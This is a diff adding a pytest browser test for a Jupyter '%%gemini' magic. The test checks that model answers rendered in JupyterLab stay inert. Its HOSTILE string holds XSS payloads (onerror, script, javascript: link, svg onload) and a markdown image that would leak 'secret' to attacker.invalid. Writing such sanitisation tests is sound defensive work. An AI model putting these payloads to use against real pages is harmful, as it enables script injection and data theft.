@@ -1,0 +1,78 @@
+"""%%gemini in a real JupyterLab page (headless chromium): hostile answers stay inert, placeholders
+take no room, and the finished answer is rendered HTML. Skipped where no browser is available.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from _lab import Lab, chromium_page, missing, open_notebook, run_cell, write_notebook
+from conftest import KERNEL_KEY, kernel_env
+from ipygemini.testing import FakeGateway
+
+pytestmark = pytest.mark.skipif(missing() is not None, reason=missing() or "")
+
+HOSTILE = (
+    '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> '
+    "[click](javascript:window.__pwned=3) ![leak](https://attacker.invalid/?q=secret) "
+    "<svg onload=window.__pwned=4>"
+)
+CELLS = [
+    "%load_ext ipygemini",
+    f"%%gemini --thinking\n{HOSTILE} [fake:delay=0.01] and some code",
+]
+
+
+@pytest.fixture(scope="module")
+def gateway() -> Iterator[FakeGateway]:
+    with FakeGateway(api_key=KERNEL_KEY) as gw:
+        yield gw
+
+
+def test_streamed_answer_in_jupyterlab(gateway: FakeGateway, tmp_path: Path) -> None:
+    env = kernel_env(gateway)
+    lab_env = {k: env[k] for k in ("GEMINI_BASE_URL", "GEMINI_API_KEY")}
+    with Lab(tmp_path, lab_env) as lab:
+        write_notebook(lab.root / "gemini.ipynb", CELLS)
+        with chromium_page(tmp_path) as page:
+            requests: list[str] = []
+            page.on("request", lambda request: requests.append(request.url))
+            open_notebook(page, lab.url("gemini.ipynb"))
+            run_cell(page, 0)
+            run_cell(page, 1)
+            cell = page.locator(".jp-Notebook .jp-Cell").nth(1)
+            cell.locator(".jp-OutputArea-output", has_text="tokens").wait_for(timeout=60_000)
+            report: dict[str, Any] = page.evaluate(
+                """(cell) => {
+                    const outputs = [...cell.querySelectorAll('.jp-OutputArea-child')];
+                    const empty = outputs.filter(o => o.innerText.trim() === '');
+                    return {
+                        pwned: window.__pwned ?? null,
+                        outputs: outputs.length,
+                        emptyHeights: empty.map(o => o.getBoundingClientRect().height),
+                        images: [...cell.querySelectorAll('img, svg image, iframe, script')]
+                            .map(e => e.outerHTML.slice(0, 120)),
+                        details: cell.querySelectorAll('details').length,
+                        openDetails: cell.querySelectorAll('details[open]').length,
+                        code: cell.querySelectorAll('pre code.language-python').length,
+                        links: [...cell.querySelectorAll('.jp-OutputArea a')]
+                            .map(a => a.getAttribute('href')),
+                        text: cell.querySelector('.jp-OutputArea').innerText,
+                    };
+                }""",
+                cell.element_handle(),
+            )
+            page.screenshot(path=str(tmp_path / "gemini.png"), full_page=True)
+    assert report["pwned"] is None
+    assert report["images"] == []
+    assert not [url for url in requests if "attacker.invalid" in url]
+    assert all(href is None or href.startswith("https://") for href in report["links"])
+    assert "https://attacker.invalid/?q=secret" in report["links"]  # a link, never loaded
+    assert '<img src=x onerror="window.__pwned=1">' in report["text"]  # shown as text
+    assert report["details"] == 1 and report["openDetails"] == 0  # thinking, folded
+    assert report["code"] == 1
+    assert report["emptyHeights"] and max(report["emptyHeights"]) <= 1.0, report["emptyHeights"]
